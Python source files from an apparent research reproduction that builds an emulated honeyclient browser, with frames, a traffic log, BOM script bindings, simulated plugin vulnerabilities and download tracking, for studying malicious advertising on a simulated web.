    def add_child(self, child: "Frame") -> "Frame":
        child.parent = self
        self.children.append(child)
        return child

    def iter_frames(self) -> Iterator["Frame"]:
        """This frame and all descendants, depth-first."""
        yield self
        for child in self.children:
            yield from child.iter_frames()

    def __repr__(self) -> str:
        return f"Frame({self.url}, depth={self.depth}, children={len(self.children)})"


class Page:
    """The result of rendering one top-level URL."""

    def __init__(self, main_frame: Frame) -> None:
        self.main_frame = main_frame

    @property
    def url(self) -> Url:
        return self.main_frame.url

    @property
    def document(self) -> Document:
        return self.main_frame.document

    def all_frames(self) -> list[Frame]:
        return list(self.main_frame.iter_frames())

    def iframes(self) -> list[Frame]:
        """All non-top frames."""
        return [f for f in self.all_frames() if not f.is_top]

    def __repr__(self) -> str:
        return f"Page({self.url}, frames={len(self.all_frames())})"
