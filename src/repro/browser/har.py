"""HAR-style HTTP traffic capture.

The paper captured all HTTP traffic during crawling "for further
investigation"; the blacklist oracle in particular checks *every domain
observed serving advertisement content*, which requires the full request
log, not just the final document.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterator, Optional

from repro.web.http import Exchange
from repro.web.url import Url, etld_plus_one


@dataclass
class HarEntry:
    """One captured request/response pair."""

    url: str
    host: str
    status: int
    content_type: str
    referer: Optional[str]
    body_size: int
    location: Optional[str] = None  # redirect target, when status is 3xx

    @property
    def registered_domain(self) -> str:
        return etld_plus_one(self.host)

    @classmethod
    def from_exchange(cls, exchange: Exchange) -> "HarEntry":
        request = exchange.request
        response = exchange.response
        return cls(
            url=str(request.url),
            host=request.url.host,
            status=response.status,
            content_type=response.content_type,
            referer=str(request.referer) if request.referer else None,
            body_size=len(response.body),
            location=response.headers.get("location"),
        )


class HarLog:
    """Ordered log of all HTTP exchanges observed during a page load."""

    def __init__(self) -> None:
        self.entries: list[HarEntry] = []

    def observe(self, exchange: Exchange) -> None:
        """HttpClient observer hook."""
        self.entries.append(HarEntry.from_exchange(exchange))

    def hosts(self) -> list[str]:
        """Unique hosts contacted, in first-seen order."""
        seen: dict[str, None] = {}
        for entry in self.entries:
            seen.setdefault(entry.host, None)
        return list(seen)

    def registered_domains(self) -> list[str]:
        """Unique eTLD+1 domains contacted, in first-seen order."""
        seen: dict[str, None] = {}
        for entry in self.entries:
            seen.setdefault(entry.registered_domain, None)
        return list(seen)

    def redirect_entries(self) -> list[HarEntry]:
        return [e for e in self.entries if 300 <= e.status < 400]

    def failed_entries(self) -> list[HarEntry]:
        return [e for e in self.entries if e.status >= 400]

    def __iter__(self) -> Iterator[HarEntry]:
        return iter(self.entries)

    def __len__(self) -> int:
        return len(self.entries)
