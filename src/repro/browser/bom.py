"""Browser Object Model bindings for AdScript.

These host objects give ad scripts the surface real malvertising code uses:
``document.write``, ``document.createElement``, ``navigator.plugins``,
``setTimeout``, ``window.open``, and — crucially for link hijacking (§2.3
of the paper) — the ``top.location`` escape hatch that lets an iframed
script navigate the whole page despite the Same-Origin Policy blocking DOM
access.
"""

from __future__ import annotations

from typing import Any, Optional, TYPE_CHECKING

from repro.adscript.values import (
    HostObject,
    JSArray,
    NativeFunction,
    UNDEFINED,
    to_js_number,
    to_js_string,
)
from repro.browser import events as ev
from repro.web.dom import Element
from repro.web.html import parse_fragment

if TYPE_CHECKING:
    from repro.browser.browser import _FrameContext


class ElementHandle(HostObject):
    """Script-side wrapper around a DOM element."""

    host_name = "HTMLElement"

    def __init__(self, ctx: "_FrameContext", element: Element) -> None:
        self.ctx = ctx
        self.element = element
        self._onclick: Any = UNDEFINED

    # -- member access -----------------------------------------------------

    def get_member(self, name: str) -> Any:
        if name in ("src", "href", "id", "name", "type", "data", "width", "height", "style", "class"):
            return self.element.get(name)
        if name == "tagName":
            return self.element.tag.upper()
        if name == "innerHTML":
            return "".join(
                child.to_html() if isinstance(child, Element) else getattr(child, "text", "")
                for child in self.element.children
            )
        if name == "onclick":
            return self._onclick
        if name == "parentNode":
            parent = self.element.parent
            return ElementHandle(self.ctx, parent) if parent is not None else None
        if name == "appendChild":
            return NativeFunction("appendChild", self._append_child)
        if name == "setAttribute":
            return NativeFunction("setAttribute", self._set_attribute)
        if name == "getAttribute":
            return NativeFunction(
                "getAttribute",
                lambda *a: self.element.get(to_js_string(a[0])) if a else UNDEFINED,
            )
        if name == "removeAttribute":
            return NativeFunction(
                "removeAttribute",
                lambda *a: self.element.attributes.pop(to_js_string(a[0]).lower(), None) and UNDEFINED
                if a else UNDEFINED,
            )
        if name == "click":
            return NativeFunction("click", lambda *a: self.ctx.browser._fire_click(self.ctx, self))
        return UNDEFINED

    def set_member(self, name: str, value: Any) -> None:
        if name == "onclick":
            self._onclick = value
            return
        if name == "innerHTML":
            self.element.children.clear()
            for child in parse_fragment(to_js_string(value)):
                self.element.append(child)
            self.ctx.note_dynamic_content(self.element)
            return
        if name in ("src", "href", "data"):
            self.element.set(name, to_js_string(value))
            self.ctx.note_dynamic_content(self.element)
            return
        self.element.set(name, to_js_string(value))

    def member_names(self) -> list[str]:
        return ["src", "href", "innerHTML", "appendChild", "setAttribute", "tagName"]

    # -- helpers -------------------------------------------------------------

    def _append_child(self, *args: Any) -> Any:
        if not args or not isinstance(args[0], ElementHandle):
            return UNDEFINED
        child = args[0]
        self.element.append(child.element)
        self.ctx.record(ev.ELEMENT_CREATED, tag=child.element.tag,
                        src=child.element.get("src") or child.element.get("href"))
        self.ctx.note_dynamic_content(child.element)
        return child

    def _set_attribute(self, *args: Any) -> Any:
        if len(args) >= 2:
            self.element.set(to_js_string(args[0]), to_js_string(args[1]))
            self.ctx.note_dynamic_content(self.element)
        return UNDEFINED


class LocationObject(HostObject):
    """``window.location`` / ``document.location`` for one frame."""

    host_name = "Location"

    def __init__(self, ctx: "_FrameContext") -> None:
        self.ctx = ctx

    def get_member(self, name: str) -> Any:
        url = self.ctx.frame.url
        if name == "href":
            return str(url)
        if name == "hostname" or name == "host":
            return url.host
        if name == "protocol":
            return url.scheme + ":"
        if name == "pathname":
            return url.path
        if name == "search":
            return f"?{url.query}" if url.query else ""
        if name == "replace" or name == "assign":
            return NativeFunction(
                name, lambda *a: self.ctx.request_navigation(to_js_string(a[0])) if a else UNDEFINED
            )
        if name == "reload":
            return NativeFunction("reload", lambda *a: UNDEFINED)
        if name == "toString":
            return NativeFunction("toString", lambda *a: str(url))
        return UNDEFINED

    def set_member(self, name: str, value: Any) -> None:
        if name == "href":
            self.ctx.request_navigation(to_js_string(value))

    def member_names(self) -> list[str]:
        return ["href", "hostname", "protocol", "pathname", "replace", "assign"]

    def __repr__(self) -> str:
        return str(self.ctx.frame.url)


class TopLocationProxy(HostObject):
    """``top.location`` as seen from a (possibly cross-origin) subframe.

    Per the BOM, setting it navigates the *top* window even from an iframe —
    the link-hijacking vector the paper describes.
    """

    host_name = "Location"

    def __init__(self, ctx: "_FrameContext") -> None:
        self.ctx = ctx

    def get_member(self, name: str) -> Any:
        # Reading cross-origin top.location details is SOP-restricted; real
        # browsers throw, we return undefined except href-as-string.
        if name in ("replace", "assign"):
            return NativeFunction(
                name,
                lambda *a: self.ctx.request_top_navigation(to_js_string(a[0])) if a else UNDEFINED,
            )
        return UNDEFINED

    def set_member(self, name: str, value: Any) -> None:
        if name == "href":
            self.ctx.request_top_navigation(to_js_string(value))

    def member_names(self) -> list[str]:
        return ["href", "replace", "assign"]


class PluginsArray(HostObject):
    """``navigator.plugins``; reading it is recorded as a probe."""

    host_name = "PluginArray"

    def __init__(self, ctx: "_FrameContext") -> None:
        self.ctx = ctx

    def get_member(self, name: str) -> Any:
        plugins = self.ctx.browser.plugin_profile.plugins
        if name == "length":
            return float(len(plugins))
        if name == "namedItem":
            return NativeFunction("namedItem", self._named_item)
        try:
            index = int(name)
        except ValueError:
            return UNDEFINED
        if 0 <= index < len(plugins):
            return self._wrap(plugins[index])
        return UNDEFINED

    def _named_item(self, *args: Any) -> Any:
        if not args:
            return None
        plugin = self.ctx.browser.plugin_profile.find_by_name(to_js_string(args[0]))
        return self._wrap(plugin) if plugin else None

    def _wrap(self, plugin: Any) -> Any:
        from repro.adscript.values import JSObject

        self.ctx.record(ev.PLUGIN_PROBE, plugin=plugin.description)
        return JSObject({"name": plugin.name, "version": plugin.version,
                         "description": plugin.description})

    def member_names(self) -> list[str]:
        return ["length", "namedItem"]


class NavigatorObject(HostObject):
    host_name = "Navigator"

    def __init__(self, ctx: "_FrameContext") -> None:
        self.ctx = ctx
        self._plugins = PluginsArray(ctx)

    def get_member(self, name: str) -> Any:
        if name == "userAgent":
            return self.ctx.browser.user_agent
        if name == "plugins":
            return self._plugins
        if name == "language":
            return "en-US"
        if name == "platform":
            return "Linux x86_64"
        if name == "cookieEnabled":
            return True
        if name == "webdriver":
            # Environment-aware malware probes this analysis tell; the
            # SCARECROW defence (§5.2) deliberately sets it on real users'
            # browsers so such malware stays dormant everywhere.
            return self.ctx.browser.exposes_analysis_tells
        return UNDEFINED

    def member_names(self) -> list[str]:
        return ["userAgent", "plugins", "language", "platform", "cookieEnabled",
                "webdriver"]


class ScreenObject(HostObject):
    host_name = "Screen"

    def get_member(self, name: str) -> Any:
        return {"width": 1920.0, "height": 1080.0,
                "availWidth": 1920.0, "availHeight": 1040.0,
                "colorDepth": 24.0}.get(name, UNDEFINED)

    def member_names(self) -> list[str]:
        return ["width", "height", "availWidth", "availHeight", "colorDepth"]


class DocumentObject(HostObject):
    host_name = "HTMLDocument"

    def __init__(self, ctx: "_FrameContext") -> None:
        self.ctx = ctx
        self.location = LocationObject(ctx)
        self._cookie = ""

    def get_member(self, name: str) -> Any:
        if name == "write" or name == "writeln":
            return NativeFunction(name, self._write)
        if name == "createElement":
            return NativeFunction("createElement", self._create_element)
        if name == "getElementById":
            return NativeFunction("getElementById", self._get_element_by_id)
        if name == "getElementsByTagName":
            return NativeFunction("getElementsByTagName", self._get_elements_by_tag_name)
        if name == "body":
            body = self.ctx.frame.document.body
            if body is None:
                # Pages written entirely by script may lack <body>; create it.
                from repro.web.dom import Element

                body = Element("body")
                root = self.ctx.frame.document.root
                (root or self.ctx.frame.document).append(body)
            return ElementHandle(self.ctx, body)
        if name == "head":
            head = self.ctx.frame.document.head
            return ElementHandle(self.ctx, head) if head is not None else UNDEFINED
        if name == "location":
            return self.location
        if name == "cookie":
            return self._cookie
        if name == "referrer":
            return self.ctx.referrer or ""
        if name == "domain":
            return self.ctx.frame.url.host
        if name == "title":
            title = self.ctx.frame.document.find("title")
            return title.text_content() if title is not None else ""
        if name == "URL":
            return str(self.ctx.frame.url)
        return UNDEFINED

    def set_member(self, name: str, value: Any) -> None:
        if name == "cookie":
            self._cookie = to_js_string(value)
            self.ctx.record(ev.COOKIE_SET, cookie=self._cookie[:100])
            return
        if name == "location":
            self.ctx.request_navigation(to_js_string(value))
            return
        if name == "title":
            return

    def member_names(self) -> list[str]:
        return ["write", "createElement", "getElementById", "body", "location",
                "cookie", "referrer", "domain", "title"]

    # -- natives -------------------------------------------------------------

    def _write(self, *args: Any) -> Any:
        markup = "".join(to_js_string(a) for a in args)
        self.ctx.record(ev.DOCUMENT_WRITE, length=len(markup))
        self.ctx.document_write(markup)
        return UNDEFINED

    def _create_element(self, *args: Any) -> Any:
        tag = to_js_string(args[0]).lower() if args else "div"
        element = Element(tag)
        return ElementHandle(self.ctx, element)

    def _get_element_by_id(self, *args: Any) -> Any:
        if not args:
            return None
        element = self.ctx.frame.document.get_element_by_id(to_js_string(args[0]))
        return ElementHandle(self.ctx, element) if element is not None else None

    def _get_elements_by_tag_name(self, *args: Any) -> Any:
        if not args:
            return JSArray([])
        found = self.ctx.frame.document.find_all(to_js_string(args[0]))
        return JSArray([ElementHandle(self.ctx, el) for el in found])


class WindowObject(HostObject):
    host_name = "Window"

    def __init__(self, ctx: "_FrameContext", document: DocumentObject) -> None:
        self.ctx = ctx
        self.document = document
        self.navigator = NavigatorObject(ctx)
        self.screen = ScreenObject()

    def get_member(self, name: str) -> Any:
        if name == "document":
            return self.document
        if name == "location":
            return self.document.location
        if name == "navigator":
            return self.navigator
        if name == "screen":
            return self.screen
        if name == "top":
            if self.ctx.frame.is_top:
                return self
            return TopWindowProxy(self.ctx)
        if name == "parent":
            if self.ctx.frame.is_top:
                return self
            return TopWindowProxy(self.ctx)  # opaque cross-origin handle
        if name == "self" or name == "window":
            return self
        if name == "open":
            return NativeFunction("open", self._open)
        if name == "setTimeout" or name == "setInterval":
            return NativeFunction(name, self._set_timeout)
        if name == "clearTimeout" or name == "clearInterval":
            return NativeFunction(name, lambda *a: UNDEFINED)
        if name == "alert" or name == "confirm" or name == "prompt":
            return NativeFunction(name, self._dialog(name))
        if name == "innerWidth":
            return 1920.0
        if name == "innerHeight":
            return 960.0
        # Fall back to script globals so `window.foo` mirrors global `foo`.
        if self.ctx.interpreter.globals.has(name):
            return self.ctx.interpreter.globals.lookup(name)
        return UNDEFINED

    def set_member(self, name: str, value: Any) -> None:
        if name == "location":
            self.ctx.request_navigation(to_js_string(value))
            return
        if name == "onload" or name == "onerror":
            self.ctx.schedule_timer(value)
            return
        self.ctx.interpreter.globals.declare(name, value)

    def member_names(self) -> list[str]:
        return ["document", "location", "navigator", "screen", "top", "parent",
                "open", "setTimeout", "alert"]

    def _open(self, *args: Any) -> Any:
        url = to_js_string(args[0]) if args else ""
        self.ctx.record(ev.POPUP, url=url)
        if url:
            self.ctx.browser._load_auxiliary(self.ctx, url, initiated_by="script")
        return self

    def _set_timeout(self, *args: Any) -> Any:
        if args:
            self.ctx.record(ev.TIMER_SET,
                            delay=to_js_number(args[1]) if len(args) > 1 else 0.0)
            self.ctx.schedule_timer(args[0])
        return float(len(self.ctx.timers))

    def _dialog(self, kind: str):
        def impl(*args: Any) -> Any:
            self.ctx.record(ev.DIALOG, dialog=kind,
                            message=to_js_string(args[0])[:200] if args else "")
            if kind == "confirm":
                return True
            if kind == "prompt":
                return ""
            return UNDEFINED
        return impl


class XhrObject(HostObject):
    """A synchronous ``XMLHttpRequest``: enough for ad-config fetches.

    Real 2014 ad scripts pulled JSON configs and beaconed impressions over
    XHR.  ``send`` performs the fetch immediately (the emulated browser has
    no event loop to await) and fires ``onreadystatechange`` once.
    """

    host_name = "XMLHttpRequest"

    def __init__(self, ctx: "_FrameContext") -> None:
        self.ctx = ctx
        self._url: str = ""
        self._method: str = "GET"
        self.status: float = 0.0
        self.response_text: str = ""
        self.ready_state: float = 0.0
        self._onreadystatechange: Any = UNDEFINED

    def get_member(self, name: str) -> Any:
        if name == "open":
            return NativeFunction("open", self._open)
        if name == "send":
            return NativeFunction("send", self._send)
        if name == "setRequestHeader":
            return NativeFunction("setRequestHeader", lambda *a: UNDEFINED)
        if name == "responseText":
            return self.response_text
        if name == "status":
            return self.status
        if name == "readyState":
            return self.ready_state
        if name == "onreadystatechange":
            return self._onreadystatechange
        return UNDEFINED

    def set_member(self, name: str, value: Any) -> None:
        if name == "onreadystatechange":
            self._onreadystatechange = value

    def member_names(self) -> list[str]:
        return ["open", "send", "responseText", "status", "readyState",
                "onreadystatechange", "setRequestHeader"]

    def _open(self, *args: Any) -> Any:
        if len(args) >= 2:
            self._method = to_js_string(args[0]).upper()
            self._url = to_js_string(args[1])
            self.ready_state = 1.0
        return UNDEFINED

    def _send(self, *args: Any) -> Any:
        from repro.web.dns import DnsError
        from repro.web.http import HttpError
        from repro.web.url import UrlError

        if not self._url:
            return UNDEFINED
        try:
            resolved = self.ctx.frame.url.resolve(self._url)
            response, _ = self.ctx.browser.client.fetch(
                resolved, referer=self.ctx.frame.url)
        except (DnsError, HttpError, UrlError) as exc:
            self.status = 0.0
            self.ready_state = 4.0
            self.ctx.record(ev.NX_REDIRECT, url=self._url, resource="xhr",
                            error=type(exc).__name__)
        else:
            self.status = float(response.status)
            self.response_text = response.text()
            self.ready_state = 4.0
            self.ctx.record(ev.RESOURCE_LOAD, url=str(response.url or resolved),
                            resource="xhr", status=response.status)
        if self._onreadystatechange is not UNDEFINED and \
                self._onreadystatechange is not None:
            self.ctx.browser._run_callback(self.ctx, self._onreadystatechange)
        return UNDEFINED


class _XhrConstructor(HostObject):
    host_name = "Function"

    def __init__(self, ctx: "_FrameContext") -> None:
        self.ctx = ctx

    def __call__(self, *args: Any) -> XhrObject:
        return XhrObject(self.ctx)


class TopWindowProxy(HostObject):
    """Cross-origin handle on the top window: only ``location`` is reachable."""

    host_name = "Window"

    def __init__(self, ctx: "_FrameContext") -> None:
        self.ctx = ctx
        self._location = TopLocationProxy(ctx)

    def get_member(self, name: str) -> Any:
        if name == "location":
            return self._location
        if name == "frames" or name == "top" or name == "parent" or name == "self":
            return self
        # SOP: everything else on a cross-origin window is opaque.
        return UNDEFINED

    def set_member(self, name: str, value: Any) -> None:
        if name == "location":
            self.ctx.request_top_navigation(to_js_string(value))

    def member_names(self) -> list[str]:
        return ["location"]
