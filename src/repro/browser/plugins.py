"""Browser plugin emulation.

Drive-by downloads in the paper target vulnerabilities in browser plugins
(Flash, Java, PDF readers).  The emulated browser advertises a plugin
profile through ``navigator.plugins``; malicious Flash/Java content carries
a target CVE, and exploitation succeeds only when the profile contains a
plugin vulnerable to that CVE — which is why honeyclients deliberately run
old, vulnerable plugin sets.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional


@dataclass(frozen=True)
class Plugin:
    """An installed browser plugin."""

    name: str
    version: str
    mime_types: tuple[str, ...]
    vulnerable_to: frozenset[str] = frozenset()

    @property
    def description(self) -> str:
        return f"{self.name} {self.version}"


@dataclass
class ExploitOutcome:
    """Result of an exploitation attempt against the plugin profile."""

    cve: str
    plugin: Optional[Plugin]
    succeeded: bool


class PluginProfile:
    """The set of plugins the emulated browser exposes."""

    def __init__(self, plugins: list[Plugin]) -> None:
        self.plugins = list(plugins)

    def find_by_mime(self, mime_type: str) -> Optional[Plugin]:
        for plugin in self.plugins:
            if mime_type in plugin.mime_types:
                return plugin
        return None

    def find_by_name(self, fragment: str) -> Optional[Plugin]:
        fragment = fragment.lower()
        for plugin in self.plugins:
            if fragment in plugin.name.lower():
                return plugin
        return None

    def attempt_exploit(self, cve: str) -> ExploitOutcome:
        """Try ``cve`` against every installed plugin."""
        for plugin in self.plugins:
            if cve in plugin.vulnerable_to:
                return ExploitOutcome(cve, plugin, succeeded=True)
        return ExploitOutcome(cve, None, succeeded=False)

    def names(self) -> list[str]:
        return [p.description for p in self.plugins]


# CVE identifiers used throughout the simulation.  They name real 2013/2014
# vulnerability classes the paper's era of exploit kits targeted.
FLASH_CVES = ("CVE-2013-0634", "CVE-2014-0515")
JAVA_CVES = ("CVE-2013-2465", "CVE-2012-4681")
PDF_CVES = ("CVE-2013-0640",)
ALL_CVES = FLASH_CVES + JAVA_CVES + PDF_CVES


def vulnerable_profile() -> PluginProfile:
    """A deliberately outdated profile, as a honeyclient would run."""
    return PluginProfile(
        [
            Plugin(
                "Shockwave Flash",
                "11.5.502.110",
                ("application/x-shockwave-flash",),
                frozenset(FLASH_CVES),
            ),
            Plugin(
                "Java(TM) Platform",
                "1.7.0_17",
                ("application/x-java-applet",),
                frozenset(JAVA_CVES),
            ),
            Plugin(
                "Adobe Acrobat",
                "10.1.5",
                ("application/pdf",),
                frozenset(PDF_CVES),
            ),
        ]
    )


def patched_profile() -> PluginProfile:
    """A fully patched profile: exploitation attempts always fail."""
    return PluginProfile(
        [
            Plugin("Shockwave Flash", "14.0.0.125", ("application/x-shockwave-flash",)),
            Plugin("Java(TM) Platform", "1.8.0_11", ("application/x-java-applet",)),
            Plugin("Adobe Acrobat", "11.0.7", ("application/pdf",)),
        ]
    )
