"""Emulated browser.

The paper used Selenium driving Firefox so that dynamically-generated
advertisements render fully, and captured all HTTP traffic.  This package
provides the equivalent for the simulated web: :class:`Browser` loads pages
over the simulated HTTP layer, parses them into a DOM, executes their
scripts with the AdScript engine, loads subframes and script-created
resources, emulates browser plugins (and their vulnerabilities), and records
a timeline of behavioural events plus a HAR-style traffic log.
"""

from repro.browser.browser import Browser, PageLoad
from repro.browser.downloads import Download, DownloadLog
from repro.browser.events import BrowserEvent, EventLog
from repro.browser.har import HarEntry, HarLog
from repro.browser.page import Frame, Page
from repro.browser.plugins import (
    ExploitOutcome,
    Plugin,
    PluginProfile,
    patched_profile,
    vulnerable_profile,
)

__all__ = [
    "Browser",
    "BrowserEvent",
    "Download",
    "DownloadLog",
    "EventLog",
    "ExploitOutcome",
    "Frame",
    "HarEntry",
    "HarLog",
    "Page",
    "PageLoad",
    "Plugin",
    "PluginProfile",
    "patched_profile",
    "vulnerable_profile",
]
