"""Download tracking.

Downloads are the raw material for the VirusTotal oracle: whenever an
advertisement causes the browser to receive executable or Flash content,
the bytes are retained so they can be submitted for AV scanning.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterator

EXECUTABLE_TYPES = frozenset(
    {
        "application/octet-stream",
        "application/x-msdownload",
        "application/x-msdos-program",
        "application/vnd.microsoft.portable-executable",
    }
)

FLASH_TYPES = frozenset({"application/x-shockwave-flash"})


@dataclass
class Download:
    """A file the browser received."""

    url: str
    content_type: str
    data: bytes
    initiated_by: str  # 'script' | 'navigation' | 'user_click' | 'exploit' | 'plugin'

    @property
    def is_executable(self) -> bool:
        return self.content_type in EXECUTABLE_TYPES

    @property
    def is_flash(self) -> bool:
        return self.content_type in FLASH_TYPES

    @property
    def size(self) -> int:
        return len(self.data)


class DownloadLog:
    """All downloads observed during a page load."""

    def __init__(self) -> None:
        self.downloads: list[Download] = []

    def record(self, url: str, content_type: str, data: bytes, initiated_by: str) -> Download:
        download = Download(url, content_type, data, initiated_by)
        self.downloads.append(download)
        return download

    def executables(self) -> list[Download]:
        return [d for d in self.downloads if d.is_executable]

    def flash_files(self) -> list[Download]:
        return [d for d in self.downloads if d.is_flash]

    def __iter__(self) -> Iterator[Download]:
        return iter(self.downloads)

    def __len__(self) -> int:
        return len(self.downloads)
