"""The emulated browser engine.

:class:`Browser.load` renders one URL the way the paper's Selenium-driven
Firefox did: follow the HTTP redirect chain, parse the document, execute
every script (inline and external) with the AdScript engine, honour
``document.write``/dynamic element insertion, load subframes and plugin
content, run queued timers, and follow script-initiated navigations — all
while recording the event timeline, the HAR traffic log, and any downloads.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Optional

from repro.adscript.errors import (
    AdScriptError,
    BudgetExceededError,
    ThrowSignal,
)
from repro.adscript.interpreter import Interpreter
from repro.adscript.values import UNDEFINED, to_js_string
from repro.browser import events as ev
from repro.browser.bom import DocumentObject, ElementHandle, WindowObject
from repro.browser.downloads import DownloadLog, EXECUTABLE_TYPES, FLASH_TYPES
from repro.browser.events import EventLog
from repro.browser.har import HarLog
from repro.browser.page import Frame, Page
from repro.browser.plugins import PluginProfile, vulnerable_profile
from repro.web.dns import DnsError
from repro.web.dom import Document, Element
from repro.web.html import parse_fragment, parse_html
from repro.web.http import HttpClient, HttpError, HttpResponse
from repro.web.url import Url, UrlError, parse_url

USER_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20140101 Firefox/24.0"

MAX_FRAME_DEPTH = 5
MAX_NAVIGATIONS = 8
MAX_TIMER_ROUNDS = 3
MAX_RESOURCES_PER_FRAME = 64


@dataclass
class PageLoad:
    """Everything observed while rendering one URL."""

    page: Optional[Page]
    events: EventLog
    har: HarLog
    downloads: DownloadLog
    error: Optional[str] = None

    @property
    def ok(self) -> bool:
        return self.page is not None


class _FrameContext:
    """Per-frame execution state: interpreter, BOM objects, work queues."""

    def __init__(self, browser: "Browser", frame: Frame, load: PageLoad,
                 referrer: Optional[str] = None) -> None:
        self.browser = browser
        self.frame = frame
        self.load = load
        self.referrer = referrer
        self.interpreter = Interpreter(step_budget=browser.step_budget)
        self.interpreter.host_random = browser._script_random
        self.interpreter.record_eval = self._record_eval
        self.timers: list[Any] = []
        self.pending_navigation: Optional[str] = None
        self.dynamic_elements: list[Element] = []
        self._write_buffer: list[str] = []
        self._install_bom()

    def _install_bom(self) -> None:
        from repro.browser.bom import _XhrConstructor

        document = DocumentObject(self)
        window = WindowObject(self, document)
        g = self.interpreter
        g.define_global("XMLHttpRequest", _XhrConstructor(self))
        g.define_global("window", window)
        g.define_global("document", document)
        g.define_global("navigator", window.navigator)
        g.define_global("screen", window.screen)
        g.define_global("location", document.location)
        g.define_global("top", window.get_member("top"))
        g.define_global("parent", window.get_member("parent"))
        g.define_global("self", window)
        for name in ("setTimeout", "setInterval", "clearTimeout", "clearInterval",
                     "alert", "confirm", "prompt", "open"):
            g.define_global(name, window.get_member(name))

    # -- hooks used by BOM objects ------------------------------------------

    def record(self, kind: str, **data: Any) -> None:
        self.load.events.record(kind, str(self.frame.url), **data)

    def _record_eval(self, source: str) -> None:
        self.record(ev.EVAL_CALL, length=len(source), source_preview=source[:200])

    def request_navigation(self, target: str) -> None:
        self.record(ev.NAVIGATION, target=target)
        self.frame.navigations.append(target)
        if self.pending_navigation is None:
            self.pending_navigation = target

    def request_top_navigation(self, target: str) -> None:
        cross_frame = not self.frame.is_top
        self.record(ev.TOP_NAVIGATION, target=target, cross_frame=cross_frame)
        top = self.frame.top
        top.navigations.append(target)
        if cross_frame:
            # A subframe hijacked the top window; follow the navigation so the
            # honeyclient sees where victims end up.
            self.browser._follow_navigation(self, target)
        else:
            self.request_navigation(target)

    def schedule_timer(self, callback: Any) -> None:
        self.timers.append(callback)

    def note_dynamic_content(self, element: Element) -> None:
        """Queue an element whose src/content changed for resource processing."""
        self.dynamic_elements.append(element)

    def document_write(self, markup: str) -> None:
        """Append written markup to the document and queue it for processing."""
        target = self.frame.document.body or self.frame.document
        nodes = parse_fragment(markup)
        for node in nodes:
            target.append(node)
            self.dynamic_elements.append(node)
        if not nodes:
            # Pure text writes still land in the document.
            target.append_text(markup)


class Browser:
    """The emulated browser.

    Parameters
    ----------
    client:
        The simulated HTTP client (with DNS + mounted servers).
    plugin_profile:
        Installed plugins; honeyclients use :func:`vulnerable_profile`.
    script_random:
        Callable returning deterministic floats for ``Math.random``.
    """

    def __init__(
        self,
        client: HttpClient,
        plugin_profile: Optional[PluginProfile] = None,
        script_random: Optional[Any] = None,
        step_budget: int = 200_000,
        user_agent: str = USER_AGENT,
    ) -> None:
        self.client = client
        self.plugin_profile = plugin_profile or vulnerable_profile()
        self._script_random = script_random or (lambda: 0.42)
        self.step_budget = step_budget
        self.user_agent = user_agent
        # True when the browser advertises analysis-environment tells
        # (navigator.webdriver).  Honeyclients keep this False to stay
        # stealthy; the SCARECROW countermeasure sets it True on *user*
        # browsers so environment-aware malware disarms itself.
        self.exposes_analysis_tells = False

    # -- public API -----------------------------------------------------------

    def load(self, url: str | Url, *, referrer: Optional[str] = None) -> PageLoad:
        """Render ``url`` and return everything observed."""
        load = PageLoad(page=None, events=EventLog(), har=HarLog(), downloads=DownloadLog())
        self.client.add_observer(load.har.observe)
        try:
            frame = self._load_frame(url, load, parent=None, element=None,
                                     referrer=referrer, nav_budget=[MAX_NAVIGATIONS])
            if frame is not None:
                load.page = Page(frame)
            else:
                load.error = load.error or "load failed"
        finally:
            self.client.remove_observer(load.har.observe)
        return load

    def click(self, load: PageLoad, frame: Frame, element: Element) -> None:
        """Simulate a user click on an anchor/button inside ``frame``.

        Used by the honeyclient to trigger deceptive-download bait links.
        """
        self.client.add_observer(load.har.observe)
        try:
            href = element.get("href") or element.get("data-download")
            if href:
                ctx = _FrameContext(self, frame, load)
                self._load_auxiliary(ctx, href, initiated_by="user_click")
        finally:
            self.client.remove_observer(load.har.observe)

    # -- transport failures -------------------------------------------------------

    @staticmethod
    def _chain_failure(chain) -> Optional[str]:
        """The failure kind if a redirect chain died mid-flight, else ``None``.

        The HTTP layer terminates a broken chain with a synthetic 502 whose
        ``x-failure`` header names the actual transport failure (nxdomain,
        connection, timeout) instead of assuming NXDOMAIN.
        """
        if not chain:
            return None
        last = chain[-1].response
        if last.status == 502 and "x-failure" in last.headers:
            return last.headers["x-failure"]
        return None

    @staticmethod
    def _failure_event(failure: str) -> str:
        """NX failures keep feeding the cloaking heuristic; the rest don't."""
        return ev.NX_REDIRECT if failure == "nxdomain" else ev.TRANSPORT_FAILURE

    # -- frame loading ----------------------------------------------------------

    def _load_frame(
        self,
        url: str | Url,
        load: PageLoad,
        parent: Optional[Frame],
        element: Optional[Element],
        referrer: Optional[str],
        nav_budget: list[int],
    ) -> Optional[Frame]:
        try:
            target = parse_url(url) if isinstance(url, str) else url
        except UrlError as exc:
            load.error = str(exc)
            return None
        try:
            response, chain = self.client.fetch(
                target, referer=parse_url(referrer) if referrer else None
            )
        except (DnsError, HttpError) as exc:
            load.events.record(ev.NX_REDIRECT, str(target), error=type(exc).__name__)
            load.error = str(exc)
            return None
        for exchange in chain[:-1]:
            load.events.record(ev.REDIRECT, str(exchange.request.url),
                               location=exchange.response.headers.get("location", ""))
        failure = self._chain_failure(chain)
        if failure is not None:
            load.events.record(self._failure_event(failure),
                               str(chain[-1].request.url), failure=failure)
            load.error = f"redirect chain failed: {failure}"
            return None
        final_url = response.url or target
        if response.content_type.split(";")[0].strip() in EXECUTABLE_TYPES | FLASH_TYPES:
            # Navigating straight into a binary is a download, not a page.
            download = load.downloads.record(str(final_url), response.content_type.split(";")[0].strip(),
                                             response.body, initiated_by="navigation")
            load.events.record(ev.DOWNLOAD, str(final_url),
                               content_type=download.content_type, size=download.size,
                               initiated_by="navigation")
            if download.is_flash:
                self._run_flash(load, str(final_url), response.body, frame_url=str(final_url))
            return None
        if not response.ok:
            load.error = f"HTTP {response.status}"
            return None

        source = response.text()
        document = parse_html(source)
        frame = Frame(final_url, document, parent=parent, element=element,
                      source_html=source)
        if parent is not None:
            parent.add_child(frame)
        ctx = _FrameContext(self, frame, load, referrer=referrer)
        self._execute_frame(ctx, nav_budget)
        return frame

